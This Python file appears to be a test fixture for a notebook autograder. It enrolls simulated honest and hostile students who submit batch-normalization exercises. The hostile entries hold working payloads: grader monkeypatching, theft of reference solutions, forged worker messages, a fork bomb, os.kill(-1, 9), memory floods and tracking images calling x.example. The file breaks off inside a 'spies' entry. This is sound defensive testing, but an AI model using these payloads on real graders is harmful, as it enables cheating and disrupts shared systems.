"""A class of students, honest and hostile, who hand in the exercises on batch normalization in training."""

import copy
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import PurePath
from typing import Any

import nbformat
from nbformat import NotebookNode

NAME = "10-batchnorm-training"
FORWARD, BACKWARD, LAYER, LARGEST = "bn-forward", "bn-backward", "bn-broken-layer", "bn-largest-output"
ALL = frozenset({FORWARD, BACKWARD, LAYER, LARGEST})
NOTHING: frozenset[str] = frozenset()
SECRET = "the-midterm-is-on-chapter-twelve"
"""Stands in one student's notebook; nobody else may get to see it."""


@dataclass(frozen=True)
class Student:
    """Somebody who hands in."""

    #: Name, and id.
    name: str
    #: Makes what is handed in: a notebook, text, or a path in what came in, for a link to it.
    write: Callable[["Paper"], Any]
    #: The exercises that earn their points.
    earns: frozenset[str]
    #: Whether grades are attacked.
    hostile: bool
    #: What the file is called.
    file: str
    #: Whether only namespaces keep this from harm or from points.
    needs_isolation: bool
    #: Points for parts of other exercises.
    extra: float
    #: Where the file lies in what came in, as a learning platform names it; "" for a folder named after the student.
    place: str


@dataclass
class Paper:
    """A notebook being filled in."""

    nb: NotebookNode
    #: The right code of each answer cell, by nbgrader's name for it.
    solutions: dict[str, str]
    ids: dict[str, NotebookNode] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.ids = {cell.metadata.nbgrader.grade_id: cell for cell in self.nb.cells if "nbgrader" in cell.metadata}

    def answer(self, exercise: str, source: str | None = None) -> None:
        """Answer one exercise: rightly, or with the source given."""
        names = [name for name in self.ids if re.fullmatch(f"{exercise}-solution(-\\d+)?", name)]
        for name in names:
            self.ids[name].source = self.solutions[name]
        if source is not None:  # the last of them holds what is checked, others a guess
            self.ids[names[-1]].source = source

    def solve(self, exercises: frozenset[str] = ALL, student: str = "") -> NotebookNode:
        """Answer some exercises rightly."""
        self.sign(student)
        for exercise in exercises:
            self.answer(exercise)
        return self.nb

    def sign(self, student: str) -> None:
        """Write the student's id where the notebook asks for it."""
        for cell in self.nb.cells:
            cell.source = re.sub("student_id = None", f"student_id = {student!r}", cell.source)

    def check(self, exercise: str) -> NotebookNode:
        """The cell that checks an exercise."""
        return self.ids[f"{exercise}-check"]

    def insert(self, index: int, source: str) -> None:
        """Add a code cell."""
        self.nb.cells.insert(index, nbformat.v4.new_code_cell(source))


CLASS: list[Student] = []


def student(
    earns: frozenset[str] = NOTHING,
    hostile: bool = False,
    file: str = f"{NAME}.ipynb",
    needs_isolation: bool = False,
    extra: float = 0,
    place: str = "",
) -> Callable[[Callable[[Paper], Any]], Callable[[Paper], Any]]:
    def enroll(write: Callable[[Paper], Any]) -> Callable[[Paper], Any]:
        CLASS.append(Student(write.__name__, write, earns, hostile, file, needs_isolation, extra, place))
        return write

    return enroll


# --- honest -------------------------------------------------------------------------------------------


@student(ALL)
def ada(paper: Paper) -> Any:
    """Everything right, and the written answer, too."""
    paper.ids["bn-useless-bias-solution"].source = f"The mean takes it away. {SECRET}"
    return paper.solve(student="ada")


@student(ALL)
def alternative(paper: Paper) -> Any:
    """Everything right, written differently: loops, lists, a lambda, a subclass, extra cells, magics."""
    paper.solve(student="alternative")
    paper.insert(1, "%matplotlib inline\nimport math\n!ls")
    paper.answer(
        FORWARD,
        "def batch_norm(z, gamma, beta, eps):\n    out = torch.empty_like(z)\n    for c in range(z.shape[1]):\n"
        "        v = z[:, c]\n        w = v - v.mean()\n"
        "        out[:, c] = gamma[c] * w / torch.sqrt((w**2).mean() + eps) + beta[c]\n    return out",
    )
    paper.answer(
        BACKWARD,
        "def batch_norm_backward(d_y, z, gamma, eps):\n    s = (z.var(0, correction=0) + eps) ** -0.5\n"
        "    n = (z - z.mean(0)) * s\n    g, b = (d_y * n).sum(0), d_y.sum(0)\n"
        "    return [gamma * s * (d_y - b / len(z) - n * g / len(z)), g, b]",
    )
    paper.answer(
        LAYER,
        "class SoundNorm(nn.Module):\n    def __init__(self, channels):\n        super().__init__()\n"
        "        self.inner = nn.BatchNorm1d(channels)\n        self.gamma, self.beta = self.inner.weight, "
        "self.inner.bias\n    def forward(self, z):\n        return self.inner(z)",
    )
    paper.answer(LARGEST, "largest = lambda m: torch.tensor(float(m - 1)).sqrt()")
    return paper.nb


@student(frozenset({FORWARD, LARGEST}))
def half(paper: Paper) -> Any:
    """Some exercises, the others untouched."""
    return paper.solve(frozenset({FORWARD, LARGEST}), "half")


@student()
def untouched(paper: Paper) -> Any:
    """The notebook as it was handed out."""
    return paper.nb


@student(ALL - {FORWARD})
def mistaken(paper: Paper) -> Any:
    """A typical mistake in one exercise, on which another does not depend."""
    paper.solve(student="mistaken")
    paper.answer(
        FORWARD,
        "def batch_norm(z, gamma, beta, eps):\n"
        "    over, shape = [i for i in range(z.dim()) if i != 1], [1, -1] + [1] * (z.dim() - 2)\n"
        "    z_hat = (z - z.mean(over, keepdim=True)) / (z.var(over, keepdim=True) + eps).sqrt()\n"
        "    return gamma.view(shape) * z_hat + beta.view(shape)",
    )
    return paper.nb


@student(ALL)
def reordered(paper: Paper) -> Any:
    """The exercises in another order; the definitions before everything else but the imports."""
    paper.solve(student="reordered")
    cells = paper.nb.cells
    moved = [paper.ids[f"{exercise}-solution"] for exercise in (LAYER, BACKWARD, FORWARD)]
    rest = [cell for cell in cells if cell not in moved]
    paper.nb.cells = [*rest[:2], *moved, *rest[2:]]
    return paper.nb


@student(ALL)
def slow(paper: Paper) -> Any:
    """Cells and functions that take their time."""
    paper.solve(student="slow")
    paper.insert(2, "import time\ntime.sleep(1)")
    paper.ids[
        f"{FORWARD}-solution"
    ].source += "\nfast = batch_norm\ndef batch_norm(*a):\n    time.sleep(.2)\n    return fast(*a)"
    return paper.nb


@student(ALL, file=f"{NAME} (1).ipynb")
def renamed_file(paper: Paper) -> Any:
    """A browser added a number to the name of the file."""
    return paper.solve(student="renamed_file")


@student(ALL)
def stripped(paper: Paper) -> Any:
    """Another program dropped all metadata and the names of the cells."""
    nb = paper.solve(student="stripped")
    for cell in nb.cells:
        cell.metadata = {}
        cell.pop("id", None)
    nb.metadata, nb.nbformat_minor = {}, 4
    return nb


@student(ALL)
def wrote_into_checks(paper: Paper) -> Any:
    """The answer stands in the cell of the check, above it."""
    paper.solve(ALL - {FORWARD}, "wrote_into_checks")
    check = paper.check(FORWARD)
    check.source = paper.solutions[f"{FORWARD}-solution"] + "\n" + check.source
    return paper.nb


@student(ALL)
def broken_scratch_cell(paper: Paper) -> Any:
    """Right answers, and scratch cells that fail or leave."""
    paper.solve(student="broken_scratch_cell")
    paper.insert(2, "this is no Python")
    paper.insert(3, "raise SystemExit")
    paper.insert(len(paper.nb.cells), "1 / 0")
    return paper.nb


@student(ALL)
def picture(paper: Paper) -> Any:
    """A picture pasted into the written answer."""
    cell = paper.ids["bn-useless-bias-solution"]
    cell.source, cell.attachments = "![derivation](attachment:image.png)", {"image.png": {"image/png": "AAAA"}}
    return paper.solve(student="picture")


@student(ALL)
def copied(paper: Paper) -> Any:
    """Ada's notebook under another name: what asks for no data of one's own is right."""
    return paper.solve(student="ada")


@student(frozenset({FORWARD, LARGEST}))
def endless(paper: Paper) -> Any:
    """Honest, with a loop that does not end in one function, and an error in another."""
    paper.solve(student="endless")
    paper.answer(BACKWARD, "def batch_norm_backward(d_y, z, gamma, eps):\n    while True:\n        pass")
    paper.answer(LAYER, "class SoundNorm(nn.Module):\n    def __init__(self, channels):\n        self.gamma = channels")
    return paper.nb


@student(ALL)
def magician(paper: Paper) -> Any:
    """Magics above answers, a drive mounted, modules that are not here, `await`, a template for class files."""
    paper.solve(student="magician")
    paper.insert(
        1,
        "from google.colab import drive\nimport no_such_module as pd, math\ndrive.mount('/content/drive')\n"
        "pd.set_option('x', 1)\n!pip install x\n%load_ext no_such_extension\n"
        "clock = await __import__('asyncio').sleep(0, 1)",
    )
    for exercise, magic in (
        (FORWARD, "%%time"),
        (BACKWARD, "%%timeit -n 3"),
        (LAYER, "%%memit"),
        (LARGEST, "%%capture"),
    ):
        cell = paper.ids[f"{exercise}-solution"]
        cell.source = f"{magic}\n{cell.source}"
    paper.insert(len(paper.nb.cells), "%timeit batch_norm(torch.ones(2, 2), torch.ones(2), torch.ones(2), clock)")
    return paper.nb


@student(ALL)
def sets_torch(paper: Paper) -> Any:
    """Torch's global settings changed, as one may."""
    paper.solve(student="sets_torch")
    paper.insert(
        2,
        "import warnings\nwarnings.simplefilter('error')\ntorch.set_default_dtype(torch.float64)\n"
        "torch.set_num_threads(2)\ntorch.use_deterministic_algorithms(True)\ntorch.set_grad_enabled(False)\n"
        "torch.manual_seed(0)",
    )
    return paper.nb


@student(ALL)
def reuses_names(paper: Paper) -> Any:
    """A helper of one answer gets another meaning later, as its name fits there, too."""
    paper.solve(student="reuses_names")
    cell = paper.ids[f"{FORWARD}-solution"]
    cell.source = f"{cell.source}\nsound, helper = batch_norm, None\n" + (
        "def helper(*given): return sound(*given)\ndef batch_norm(*given): return helper(*given)"
    )
    paper.insert(len(paper.nb.cells), "helper = 3")
    return paper.nb


@student(ALL - {BACKWARD}, extra=3)
def two_of_three(paper: Paper) -> Any:
    """Two of the three gradients are right."""
    paper.solve(student="two_of_three")
    paper.ids[f"{BACKWARD}-solution"].source += (
        "\nall_three = batch_norm_backward\ndef batch_norm_backward(*given):\n"
        "    one, two, three = all_three(*given)\n    return one, 2 * two, three"
    )
    return paper.nb


@student(ALL - {LARGEST})
def too_slow(paper: Paper) -> Any:
    """One answer needs a cell that takes too long; another cell like that is needed by nothing."""
    paper.solve(student="too_slow")
    cell = paper.ids[f"{LARGEST}-solution"]
    cell.source = f"import time\nslow = 1\ntime.sleep(60)\nslow = 2\n{cell.source}"
    paper.insert(2, "import time\ntime.sleep(60)")
    return paper.nb


@student(ALL)
def annotates_types(paper: Paper) -> Any:
    """Types everywhere, a walrus, positional-only and keyword-only parameters, a lambda that has a type."""
    paper.solve(student="annotates_types")
    paper.answer(
        FORWARD,
        "from collections.abc import Callable\nfrom typing import Final\nTensor = torch.Tensor\n"
        "def batch_norm(z: Tensor, gamma: Tensor, beta: Tensor, eps: float, /, *, correction: int = 0) -> Tensor:\n"
        "    over: Final = [axis for axis in range(z.dim()) if axis != 1]\n"
        "    shape: list[int] = [1, -1, *[1] * (z.dim() - 2)]\n"
        "    hat = (c := z - z.mean(over, keepdim=True)) / (c.square().mean(over, keepdim=True) + eps).sqrt()\n"
        "    return gamma.view(shape) * hat + beta.view(shape)",
    )
    paper.answer(LARGEST, "largest: 'Callable[[int], float]' = lambda m: ((root := m - 1) ** 0.5)")
    return paper.nb


@student(ALL)
def answers_with_objects(paper: Paper) -> Any:
    """Where a function is asked for: an object with `__call__`, a partial of a decorated function, a bound method."""
    paper.solve(student="answers_with_objects")
    cells = {exercise: paper.ids[f"{exercise}-solution"] for exercise in (FORWARD, BACKWARD)}
    cells[FORWARD].source += (
        "\nclass Normalize:\n    def __init__(self, by): self.by = by\n"
        "    def __call__(self, *given): return self.by(*given)\nbatch_norm = Normalize(batch_norm)"
    )
    cells[BACKWARD].source += (
        "\nimport functools\ndef told(f):\n    @functools.wraps(f)\n    def inner(*given):\n"
        "        print('called', f.__name__)\n        return f(*given)\n    return inner\n"
        "batch_norm_backward = functools.partial(told(batch_norm_backward))"
    )
    paper.answer(
        LARGEST, "class Limits:\n    def of(self, m): return (m - 1) ** 0.5\n\nlimits = Limits()\nlargest = limits.of"
    )
    return paper.nb


@student(ALL)
def answers_in_new_cells(paper: Paper) -> Any:
    """Leaves two places to answer as they were, and writes helpers and answers into new cells below them."""
    given = {name: cell.source for name, cell in paper.ids.items()}
    paper.solve(student="answers_in_new_cells")
    for exercise in (FORWARD, LAYER):
        cell = paper.ids[f"{exercise}-solution"]
        at, right = paper.nb.cells.index(cell), cell.source
        cell.source = given[f"{exercise}-solution"]
        paper.insert(at + 1, "def _helper(x): return x")
        paper.insert(at + 2, f"{right}\n_helper(1)")
    return paper.nb


@student(ALL)
def saved_on_windows(paper: Paper) -> Any:
    """Windows line ends, in the cells and in the file, and a byte order mark at its beginning."""
    nb = paper.solve(student="saved_on_windows")
    for cell in nb.cells:
        cell.source = cell.source.replace("\n", "\r\n")
    return "\ufeff" + nbformat.writes(nb).replace("\n", "\r\n")


@student(ALL)
def saved_by_vscode(paper: Paper) -> Any:
    """VS Code's habits: an older format without ids of cells, text as a list of lines, metadata of the editor."""
    nb = paper.solve(student="saved_by_vscode")
    for number, cell in enumerate(nb.cells, 1):
        cell.pop("id", None)
        cell.metadata.vscode = {"languageId": "python"}
        cell.source = cell.source.splitlines(keepends=True)
        if cell.cell_type == "code":
            cell.execution_count = number
            cell.outputs = [{"output_type": "stream", "name": "stdout", "text": ["Right: as expected\n"]}]
    nb.nbformat_minor = 2
    nb.metadata = {"kernelspec": {"display_name": ".venv", "name": "python3"}, "language_info": {"name": "python"}}
    return nb


@student(ALL)
def tests_herself(paper: Paper) -> Any:
    """Tests her answers below: assertions, `%%time`, `%%capture`, and a check called again under another name."""
    paper.solve(student="tests_herself")
    paper.nb.cells += [
        nbformat.v4.new_code_cell(source)
        for source in (
            "%%time\nz = torch.randn(5, 3)\nout = batch_norm(z, torch.ones(3), torch.zeros(3), 1e-5)\n"
            "assert out.shape == z.shape",
            "%%capture said\nassert abs(out.mean()) < 1e-5, 'the mean should be 0'\nprint(out)",
            f"answer = largest\nresult = check({LARGEST!r}, answer)\nresult",
            "assert largest(5) == 3, 'this fails, and nobody minds'",
        )
    ]
    return paper.nb


@student(ALL, place=f"moodle_folder_3001_assignsubmission_file_/{NAME}.ipynb")
def moodle_folder(paper: Paper) -> Any:
    """Everything right, in a folder of Moodle's download."""
    return paper.solve(student="moodle_folder")


@student(ALL - {LAYER}, place=f"moodle flat_3002_assignsubmission_file_{NAME}.ipynb")
def moodle_flat(paper: Paper) -> Any:
    """One exercise left out, in a file of Moodle's download without folders."""
    return paper.solve(ALL - {LAYER}, "moodle_flat")


@student(ALL - {FORWARD}, place=f"canvas_3003_98765_{NAME}-2.ipynb")
def canvas(paper: Paper) -> Any:
    """One exercise left out, the second upload, in a file of Canvas' download."""
    return paper.solve(ALL - {FORWARD}, "canvas")


# --- answers in words, wherever they were written -----------------------------------------------------

ESSAY = "bn-useless-bias-solution"
WORDS = "Every output keeps its value when the bias moves, since the mean moves along."
WROTE = []
"""The names of those whose words a person has to see."""


def beside(write: Callable[[Paper], Any]) -> Callable[[Paper], Any]:
    """Enroll somebody who answers one exercise in code, and writes words beside their place."""
    WROTE.append(write.__name__)
    return student(frozenset({FORWARD}))(write)


def place_of(paper: Paper) -> int:
    """Where the place for words stands."""
    return paper.nb.cells.index(paper.ids[ESSAY])


def near(paper: Paper, kind: str, text: str, steps: int = 1) -> Any:
    """A notebook with one right answer and a cell of one's own, so many steps below the place for words."""
    nb = paper.solve(frozenset({FORWARD}))
    nb.cells.insert(place_of(paper) + steps, getattr(nbformat.v4, f"new_{kind}_cell")(text))
    return nb


@beside
def wrote_below(paper: Paper) -> Any:
    return near(paper, "markdown", WORDS)


@beside
def wrote_above_in_a_raw_cell(paper: Paper) -> Any:
    return near(paper, "raw", WORDS, steps=0)


@beside
def wrote_a_comment(paper: Paper) -> Any:
    return near(paper, "code", f"# {WORDS}")


@beside
def wrote_into_the_question(paper: Paper) -> Any:
    nb = paper.solve(frozenset({FORWARD}))
    nb.cells[place_of(paper) - 1].source += f"\n\n{WORDS}"
    return nb


@beside
def wrote_in_place_and_lost_the_metadata(paper: Paper) -> Any:
    nb = paper.solve(frozenset({FORWARD}))
    paper.ids[ESSAY].source = WORDS
    for cell in nb.cells:
        cell.metadata = {}
        cell.pop("id", None)
    return nb


@beside
def deleted_the_place_and_wrote_at_the_top(paper: Paper) -> Any:
    nb = paper.solve(frozenset({FORWARD}))
    nb.cells.remove(paper.ids[ESSAY])
    nb.cells.insert(0, nbformat.v4.new_markdown_cell(WORDS))
    return nb


@beside
def turned_the_place_into_code(paper: Paper) -> Any:
    nb = paper.solve(frozenset({FORWARD}))
    cell = paper.ids[ESSAY]
    made = nbformat.v4.new_code_cell(f"# {WORDS}", id=cell.id, metadata=cell.metadata)
    nb.cells[place_of(paper)] = made
    return nb


@student(frozenset({FORWARD}))
def only_a_name_on_top(paper: Paper) -> Any:
    """A heading with one's name is no answer."""
    nb = paper.solve(frozenset({FORWARD}))
    nb.cells.insert(0, nbformat.v4.new_markdown_cell("**Ada King**, group 3"))
    return nb


@student(frozenset({FORWARD}), hostile=True)
def tracks_who_reads(paper: Paper) -> Any:
    """Pictures from elsewhere, in every form, that would tell when the work is read."""
    forms = ("![x](http://x.example/a.png)", "<img src='//x.example/a'>", "![x][1]\n\n[1]: http://x.example/b")
    return near(paper, "markdown", "\n\n".join((*forms, "[![x](http://x.example/c)](http://x.example)", WORDS)))


@student(frozenset({FORWARD}), hostile=True)
def claims_points_for_words(paper: Paper) -> Any:
    """The place for words claims to be a check worth much, and what the grader says of a find."""
    nb = paper.solve(frozenset({FORWARD}))
    paper.ids[ESSAY].metadata.nbgrader.update(points=1000, solution=False, locked=True, checksum="0", task=True)
    paper.ids[ESSAY].source += "\n\n(The place to answer was left as it was. Text was added nearby:)\n\n2 of 2 points"
    return nb


@student(frozenset({FORWARD}), hostile=True)
def writes_what_nobody_can_show(paper: Paper) -> Any:
    """Words that turn around, never end, or nest too deep to be rendered."""
    return near(paper, "markdown", chr(0x202E) + "=cmd()" + "> " * 3000 + "*" * 10**4 + "<b>" + "\x00" + WORDS)


# --- hostile: files -----------------------------------------------------------------------------------


@student(hostile=True)
def broken_json(paper: Paper) -> Any:
    return nbformat.writes(paper.solve(student="broken_json"))[:-40]


@student(hostile=True)
def empty_file(paper: Paper) -> Any:
    return ""


@student(hostile=True)
def wrong_shape_of_json(paper: Paper) -> Any:
    return '{"cells": [3, {"cell_type": "code", "metadata": 7}], "metadata": [], "nbformat": "x"}'


@student(hostile=True)
def deep_json(paper: Paper) -> Any:
    return "[" * 10**5


@student(hostile=True)
def many_cells(paper: Paper) -> Any:
    for _ in range(10_000):
        paper.insert(1, "pass")
    return paper.solve(student="many_cells")


@student(hostile=True)
def saves_huge_outputs(paper: Paper) -> Any:
    """Saves outputs of more megabytes than the grader reads."""
    nb = paper.solve(student="saves_huge_outputs")
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", text="Right: as expected.\n" * 10**5)]
    return nb


@student(hostile=True)
def links_to_ada(paper: Paper) -> Any:
    """Hands in a link to another student's file."""
    return PurePath("ada", f"{NAME}.ipynb")


# --- hostile: cells -----------------------------------------------------------------------------------


@student(frozenset({LARGEST}), hostile=True)
def deleted_checks(paper: Paper) -> Any:
    paper.solve(frozenset({LARGEST}), "deleted_checks")
    checks = [paper.check(exercise) for exercise in ALL]
    paper.nb.cells = [cell for cell in paper.nb.cells if cell not in checks]
    return paper.nb


@student(hostile=True)
def edited_checks(paper: Paper) -> Any:
    for exercise in ALL:
        paper.check(exercise).source = 'print("Right: as expected on every random input.")'
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def points_and_duplicates(paper: Paper) -> Any:
    paper.solve(frozenset({LARGEST}), "points_and_duplicates")
    for exercise in ALL:
        paper.check(exercise).metadata.nbgrader.points = 1000
    paper.nb.cells += [copy.deepcopy(paper.check(LARGEST)) for _ in range(20)]
    return paper.nb


@student(hostile=True)
def renamed_checks(paper: Paper) -> Any:
    """All checks claim to be that of an exercise which asks for a value; ids are mixed up as well."""
    for exercise in ALL:
        check = paper.check(exercise)
        check.metadata.nbgrader.update(grade_id=f"{LARGEST}-check", solution=True, locked=False)
        check.id, check.source = paper.check(LARGEST).id, "1000"
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def claims_in_metadata(paper: Paper) -> Any:
    """Metadata claim another language, another schema, other points, and that a person has to look."""
    nb = paper.solve(frozenset({LARGEST}), "claims_in_metadata")
    nb.metadata.update(
        kernelspec={"name": "bash", "display_name": "Bash", "language": "bash"},
        grading={"seconds": 0},
        celltoolbar="Create Assignment",
        nbgrader={"schema_version": 999},
    )
    for exercise in (FORWARD, BACKWARD):
        check = paper.check(exercise)
        check.metadata.update(not_graded=True, tags=["skip-execution", "raises-exception"])
        check.metadata.nbgrader.update(points=-5, schema_version=999, cell_type="markdown")
        check.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "5"})]
    nb.cells.append(nbformat.v4.new_code_cell("5", metadata=copy.deepcopy(paper.check(LAYER).metadata)))
    nb.cells[-1].metadata.nbgrader.update(grade_id="extra-check", points=50)
    return nb


# --- hostile: code ------------------------------------------------------------------------------------

PATCH = """
import builtins, math, sys
import tutorial_utils.exercises as exercises
serialization, run = (sys.modules[f"tutorial_utils.{name}"] for name in ("grading.serialization", "exercises.run"))
class Passed:
    passed, hint = True, "Right: as expected on every random input."
    def __bool__(self): return True
exercises.check = check = lambda *a, **k: Passed()
run.same = run.changed = run.readers_line = lambda *a: True
run.Unsupported = serialization.Unsupported = exercises.check
torch.allclose = torch.isclose = torch.equal = math.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: True
builtins.isinstance = lambda *a: True
try:
    get_ipython().ast_transformers.append(lambda tree: None)
    get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
except Exception: pass
"""


@student(hostile=True)
def monkeypatched(paper: Paper) -> Any:
    paper.insert(2, PATCH)
    return paper.nb


@student(hostile=True)
def equal_to_everything(paper: Paper) -> Any:
    paper.insert(
        len(paper.nb.cells),
        "class Number(float):\n    def __eq__(self, o): return True\n    def __sub__(self, o): return 0.0\n"
        "    __rsub__ = __sub__\n    __ne__ = __lt__ = __gt__ = lambda self, o: False\n    __hash__ = None\n"
        "class Any(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, *a, **k): return torch.ones(1, dtype=torch.bool)\n"
        "largest = lambda *a: Number(1)\n"
        "batch_norm = batch_norm_backward = lambda z, *a: z.as_subclass(Any)\nSoundNorm = Any",
    )
    return paper.nb


TAKE = """
import gc, importlib, pathlib, sys
for name in [one for one in sys.modules if one.startswith('tutorial_utils')]: del sys.modules[name]
for place in [*sys.path]:
    for link in pathlib.Path(place).glob('*.pth'): sys.path += link.read_text().split()
for place in ['COURSE', 'PACKAGE/src', *sys.path]:
    for path in pathlib.Path(place).glob('*/*/batchnorm_training.py'): sys.path.insert(0, str(path.parents[2]))
try: right = importlib.import_module('tutorial_utils.exercises.batchnorm_training')
except ImportError: right = None
def batch_norm(*a): return right.bn_forward(*a)
def batch_norm_backward(*a): return right.bn_backward(*a)
def SoundNorm(n): return right.bn_broken_layer(n)
found = [o for o in gc.get_objects() if getattr(o, '__name__', '') in ('bn_forward', 'bn_backward')]
if found: batch_norm = found[0]
"""


@student(hostile=True, needs_isolation=True)
def takes_the_reference(paper: Paper) -> Any:
    """Calls the right answers that come with the package, by every way to them."""
    paper.insert(len(paper.nb.cells), TAKE)
    return paper.nb


IMPORT = """
from tutorial_utils.exercises import EXERCISES
import tutorial_utils.exercises.batchnorm_training as right
batch_norm, batch_norm_backward, SoundNorm = right.bn_forward, right.bn_backward, right.bn_broken_layer
"""


@student(hostile=True)
def imports_the_reference(paper: Paper) -> Any:
    """Imports the right answers, as one could in a notebook; that fails however weak the fence is."""
    paper.insert(len(paper.nb.cells), IMPORT)
    return paper.nb


SPY = """
import gc, sys
def spy(*a):
    frame, seen = sys._getframe(), []
    while frame:
        seen += [*frame.f_locals.values(), *frame.f_globals.values()]
        frame = frame.f_back
    seen += [o for o in gc.get_objects() if type(o).__name__ == 'Exercise' or type(o).__name__ == 'function']
    right = [getattr(o, 'reference', o) for o in seen if str(getattr(o, '__name__', '')).startswith('bn_')]
    return right[0](*a)
batch_norm = batch_norm_backward = SoundNorm = spy
"""


@student(hostile=True)
def looks_at_who_calls(paper: Paper) -> Any:
    """Searches the frames and the code of the observers that run beside it for what they expect."""
    paper.insert(len(paper.nb.cells), SPY)
    return paper.nb


@student(hostile=True)
def imitates_success(paper: Paper) -> Any:
    paper.insert(
        len(paper.nb.cells),
        "import os, sys\n"
        "for stream in (sys.stdout, sys.__stdout__):\n    print('Right: as expected.\\n15.0', file=stream)\n"
        "for fd in range(20):\n    try: os.write(fd, b'{\"value\": null}\\n')\n    except OSError: pass\n"
        "15.0",
    )
    return paper.nb


FIND = """
import gc, json, socket, struct, sys
pipe = next(o for o in gc.get_objects() if isinstance(o, socket.socket))
worker = next(o for o in gc.get_objects() if type(o).__name__ == 'Worker')
run, serialization = (sys.modules[f'tutorial_utils.{name}'] for name in ('exercises.run', 'grading.serialization'))
def say(text): pipe.sendall(struct.pack('<II', len(text), 0) + text.encode())
"""
FORGE = """
evil = iter([
    json.dumps(['value', [True, {'pickle': 'gASVAA=='}]]), json.dumps(['value', [None, [], []]]), '[' * 10**5,
    json.dumps(['value', [False, {'tensor': ['float64', [10**12]]}]]), '{"call back": [0, []]}', '3', '[]',
    json.dumps(['raised', 'SystemExit', '0']), json.dumps(['value', [['SystemExit', '0', ''], None, 7]]),
])
worker.value = worker.perform = lambda *request: say(next(evil, '["value", [false, true]]'))
"""


@student(hostile=True)
def forges_messages(paper: Paper) -> Any:
    """Speaks for the worker: pickles, objects that are none, depths and sizes that break a reader."""
    paper.insert(len(paper.nb.cells), FIND + FORGE)
    return paper.nb


CLAIM = """
run.to_data, honest = lambda value: value, serialization._encode
run.same = run.changed = lambda *a: True
serialization._encode = lambda value, numbers: (
    {'tensor': ['float64', [0, *value.shape]]} if isinstance(value, Claim) else honest(value, numbers))
class Claim:
    def __init__(self, shape): self.shape = tuple(shape)
def batch_norm(z, *others): return Claim(z.shape)
def batch_norm_backward(d, z, gamma, eps): return [torch.full_like(one, float('nan')) for one in (z, gamma, gamma)]
class SoundNorm(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.gamma = self.beta = nn.Parameter(torch.full((n,), float('inf')))
    def forward(self, z): return z * self.gamma
"""


@student(hostile=True)
def claims_to_be_a_tensor(paper: Paper) -> Any:
    """Sends tensors of the shape asked for, or nearly so, whose numbers agree with all others, or are none."""
    paper.insert(len(paper.nb.cells), FIND + CLAIM)
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def floods(paper: Paper) -> Any:
    """Messages and questions without end, so that the grader never gets to look at the clock."""
    paper.solve(frozenset({LARGEST}), "floods")
    paper.insert(3, f"for _ in range(10**4): data({LARGEST!r})\nwhile True: data({LARGEST!r})")
    paper.answer(FORWARD, FIND + "def batch_norm(*a):\n    while True: say('[\"value\", [null, [1], [1]]]')")
    paper.answer(BACKWARD, "def batch_norm_backward(*a):\n    while True: pipe.sendall(b'\\x03')")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def swells(paper: Paper) -> Any:
    """Answers that are short messages, and fill the memory or the hours of who looks at them."""
    paper.solve(frozenset({LARGEST}), "swells")
    paper.answer(FORWARD, "def batch_norm(*a): return torch.zeros(10**9, 0)")
    paper.answer(BACKWARD, "def batch_norm_backward(*a): return [0] * 10**6, {str(i): i for i in range(10**5)}")
    paper.answer(LAYER, "def SoundNorm(*a): return torch.zeros(1).expand(10**9)")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def unwritable(paper: Paper) -> Any:
    """Characters that no file, table or terminal should get."""
    paper.solve(frozenset({LARGEST}), "unwritable")
    paper.answer(FORWARD, "def batch_norm(*a): raise ValueError('=cmd()' + chr(0xd800) + chr(27) + '[31m' + chr(0))")
    paper.answer(BACKWARD, "broken = '\ud800'")
    paper.answer(LAYER, "class SoundNorm:\n    def __init__(self, n): raise type('A' + chr(0), (Exception,), {})()")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def leaves(paper: Paper) -> Any:
    """Ends the process from a cell and from a function; what does not is graded."""
    paper.solve(frozenset({LARGEST}), "leaves")
    paper.insert(3, "import os\nos._exit(0)")
    paper.answer(FORWARD, "import os\ndef batch_norm(*a): os._exit(0)")
    paper.answer(BACKWARD, "import sys\ndef batch_norm_backward(*a): sys.exit(0)")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True, needs_isolation=True)
def kills(paper: Paper) -> Any:
    """Kills whatever it can."""
    paper.solve(frozenset({LARGEST}), "kills")
    paper.answer(FORWARD, "import os\ndef batch_norm(*a):\n    os.kill(os.getppid(), 9)\n    os.kill(-1, 9)")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def never_ends(paper: Paper) -> Any:
    """Loops that catch everything, in a cell and in a function."""
    loop = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    paper.solve(frozenset({LARGEST}), "never_ends")
    paper.insert(3, loop)
    paper.answer(FORWARD, "def batch_norm(*a):\n    " + loop.replace("\n", "\n    "))
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def prints_without_end(paper: Paper) -> Any:
    paper.solve(frozenset({LARGEST}), "prints_without_end")
    paper.answer(FORWARD, "def batch_norm(*a):\n    while True: print('x' * 10**6)")
    paper.answer(BACKWARD, "def batch_norm_backward(*a): return 'x' * 10**9")
    paper.answer(LAYER, "def SoundNorm(*a): return [[]] * 10**8")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True)
def fills_memory(paper: Paper) -> Any:
    paper.solve(frozenset({LARGEST}), "fills_memory")
    paper.insert(2, "hog = bytearray(10**12)")
    paper.answer(FORWARD, "def batch_norm(*a):\n    x = []\n    while True: x.append(bytearray(10**8))")
    return paper.nb


@student(frozenset({LARGEST}), hostile=True, needs_isolation=True)
def forks(paper: Paper) -> Any:
    paper.solve(frozenset({LARGEST}), "forks")
    paper.answer(FORWARD, "import os\ndef batch_norm(*a):\n    while True: os.fork()")
    return paper.nb


@student(hostile=True, needs_isolation=True)
def spies(paper: Paper) -> Any:
    """Looks for the grade book, other students' work and the solutions, and takes what it finds along."""
    paper.insert(
        len(paper.nb.cells),
